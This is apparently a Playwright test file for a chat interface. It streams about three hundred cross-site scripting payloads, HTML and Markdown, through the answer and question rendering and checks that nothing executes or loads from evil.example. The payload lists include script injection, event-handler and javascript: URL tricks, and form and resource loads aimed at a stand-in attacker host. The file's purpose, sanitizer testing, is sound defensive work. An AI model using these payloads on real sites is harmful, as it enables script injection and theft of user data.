"""Hostile answers and questions in real Chromium: two hundred ways to run a script, to load something, to break out."""

import itertools
import re

import pytest
from playwright.async_api import Page, expect

from tests.fakes.scripted_model import ScriptedModel
from tests.web.browser.test_page import done, say, turn

pytestmark = pytest.mark.slow

JS = "window.owned=1,alert(1)"
# Each {} is JS, or an address that runs it. The host evil.example must never be asked for anything.
TAGS = r"""
<script>{}</script>
<script src=//evil.example/x.js></script>
<ScRiPt\n>{}</ScRiPt\t>
<<script>{}//<</script>
<scr<script>ipt>{}</scr</script>ipt>
<img src=x onerror={}>
<img src="x" OnErRoR="{}">
<img/src=x/onerror={}>
<img src=x onerror\n=\n"{}">
<img src=`x`onerror={}>
<img src=//evil.example/i.png>
<img srcset="//evil.example/i.png 2x">
<picture><source srcset=//evil.example/i.png><img src=x></picture>
<svg onload={}>
<svg><script>{}</script></svg>
<svg><animate onbegin={} attributeName=x dur=1s>
<svg><a xlink:href="javascript:{}"><text y=20>x</text></a></svg>
<svg><use href="//evil.example/x.svg#x"></svg>
<svg><foreignObject><img src=x onerror={}></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>
<math href="javascript:{}">x</math>
<iframe src="javascript:{}"></iframe>
<iframe srcdoc="<script>parent.{}</script>"></iframe>
<iframe src=//evil.example/></iframe>
<object data="javascript:{}"></object>
<object data=//evil.example/x></object>
<embed src=//evil.example/x>
<video><source onerror={}></video>
<video src=//evil.example/v poster=//evil.example/p></video>
<audio src=x onerror={}>
<body onload={}>
<input autofocus onfocus={}>
<select autofocus onfocus={}>
<textarea autofocus onfocus={}>
<details open ontoggle={}>
<marquee onstart={}>x</marquee>
<div onmouseover={} style="position:fixed;inset:0">x</div>
<div style="background:url(//evil.example/b)">x</div>
<p style="position:fixed;inset:0;z-index:99">x</p>
<a href="javascript:{}">x</a>
<a href="JaVaScRiPt:{}">x</a>
<a href="java\tscript:{}">x</a>
<a href="java&#10;script:{}">x</a>
<a href="&#106;avascript:{}">x</a>
<a href="\x01javascript:{}">x</a>
<a href="vbscript:{}">x</a>
<a href="data:text/html,<script>{}</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="//evil.example/" target=_self>x</a>
<a href=x onclick={}>x</a>
<form action="javascript:{}"><button>x</button></form>
<form action=//evil.example/><input name=password><button>x</button></form>
<button formaction="javascript:{}">x</button>
<isindex action="javascript:{}">
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv=refresh content="0;url=javascript:{}">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/x>
<link rel=dns-prefetch href=//evil.example/>
<style>@import "//evil.example/x.css"; body {{ background: url(//evil.example/b) }}</style>
<noscript><p title="</noscript><img src=x onerror={}>">
<template><img src=x onerror={}></template>
<title><img src=x onerror={}></title>
<xmp><img src=x onerror={}></xmp>
<!--><img src=x onerror={}>-->
<![CDATA[<img src=x onerror={}>]]>
<?xml <img src=x onerror={}> ?>
<x contenteditable onblur={}>x</x>
<div id=turns>x</div><div class="me">x</div>
<input type=checkbox onclick={} checked>
""".strip().splitlines()
MARKDOWN = r"""
[x](javascript:{})
[x](JAVASCRIPT:{})
[x](<javascript:{}>)
[x](java\tscript:{})
[x](&#106;avascript:{})
[x](javascript&colon;{})
[x](\\javascript:{})
[x](data:text/html,<script>{}</script>)
[x](vbscript:{})
[x](//evil.example/)
[x](\\\\evil.example)
[x]( javascript:{} "t")
[x][r]\n\n[r]: javascript:{}
![x](javascript:{})
![x](https://evil.example/i.png)
![x](//evil.example/i.png)
![x](data:image/svg+xml,<svg onload={}>)
[![x](https://evil.example/i.png)](https://evil.example/)
<javascript:{}>
<https://evil.example/"onmouseover="{}>
https://evil.example/"onmouseover="{}
`<img src=x onerror={}>`
```html\n<script>{}</script>\n```
```"><img src=x onerror={}>\nx\n```
~~~ <script>{}</script>\nx\n~~~
| <img src=x onerror={}> | x |\n| --- | --- |\n| <script>{}</script> | x |
- [ ] <img src=x onerror={}>
> <svg onload={}>
> [!NOTE]<img src=x onerror={}>\n> x
# <img src=x onerror={}>
[^1]: <img src=x onerror={}>\n\nx[^1]
$<img src=x onerror={}>$
$$\n<script>{}</script>\n$$
\\(<img src=x onerror={}>\\)
**<img src=x onerror={}>**
[<img src=x onerror={}>](https://example.org/)
[x](https://example.org/ "<img src=x onerror={}>")
""".strip().splitlines()
WRAPS = ["> {}", "- {}", "**{}**", "text {} text", "<div>{}</div>", "\"'>{}"]


def corpus() -> list[str]:
    """Every payload as it is, and the tags in other surroundings: some three hundred."""
    plain = [line.replace(r"\n", "\n").replace(r"\t", "\t").replace(r"\x01", "\x01") for line in [*TAGS, *MARKDOWN]]
    wrapped = [wrap.replace("{}", line) for wrap, line in zip(itertools.cycle(WRAPS), [*plain, *plain], strict=False)]
    return [text.replace("{{", "{").replace("}}", "}").replace("{}", JS) for text in [*plain, *wrapped]]


async def assert_harmless(page: Page, where: str) -> None:
    assert await page.evaluate("window.owned") is None
    markup = await page.locator(where).evaluate_all("all => all.map(each => each.outerHTML).join('')")
    assert not re.search(r"<(script|iframe|object|embed|svg|math|style|link|meta|base|form|img|video|audio)\b", markup)
    live = await page.locator(where).evaluate_all(
        """all => all.flatMap(each => [...each.querySelectorAll('*')]).flatMap(each => [...each.attributes])
        .filter(each => /^on|^style$|^srcdoc$|^formaction$/i.test(each.name)
        || (/^(href|src|action|xlink:href)$/i.test(each.name) && !/^(https?:|mailto:|#)/i.test(each.value)))
        .map(each => `${each.name}=${each.value}`)"""
    )
    assert live == []


async def test_hostile_answers_run_nothing_and_load_nothing(page: Page, model: ScriptedModel) -> None:
    """Streamed in small pieces, so that halves of tags are shown as well; then rendered whole by the server."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog evil {dialog.message}"))
    payloads = corpus()
    assert len(payloads) > 200
    text = "\n\n".join(payloads)
    model.pieces = [text[start : start + 37] for start in range(0, len(text), 37)]
    await say(page, "Attack")
    await expect(turn(page)).to_have_attribute("data-state", "done", timeout=60_000)
    await assert_harmless(page, ".answer")
    await page.reload()
    await done(page)
    await assert_harmless(page, ".answer")
    for link in await page.locator(".answer a").all():
        assert await link.get_attribute("rel") == "nofollow noopener noreferrer"
        assert await link.get_attribute("target") == "_blank"
    assert [url for url in asked if "evil" in url] == []
    assert await page.locator("#turns").count() == 1


async def test_hostile_questions_and_titles_are_text(page: Page, model: ScriptedModel) -> None:
    model.pieces = ["ok", "."]
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for payload in ("<img src=x onerror=window.owned=1>", "</textarea><svg onload=window.owned=2>"):
        await page.goto("/?new")
        await say(page, payload)
        await done(page)
        await page.reload()
        await expect(turn(page).locator(".question")).to_contain_text(payload)
        await expect(page.get_by_role("navigation").locator("li a").first).to_have_text(payload)
        await assert_harmless(page, ".question, .chats li a")
    assert [url for url in asked if url.endswith("/x")] == []
